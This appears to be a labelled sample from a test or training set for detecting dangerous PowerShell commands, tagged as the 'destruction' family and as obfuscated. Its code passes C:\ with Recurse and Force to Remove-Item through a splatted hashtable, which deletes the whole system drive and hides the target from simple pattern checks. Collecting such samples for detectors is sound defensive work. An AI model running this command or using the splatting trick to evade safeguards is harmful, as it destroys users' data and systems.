# description: Passes Path C:\ to Remove-Item through a splatted hashtable.
# family: destruction
# obfuscated: yes
$params = @{
    Path    = 'C:\'
    Recurse = $true
    Force   = $true
}
Remove-Item @params
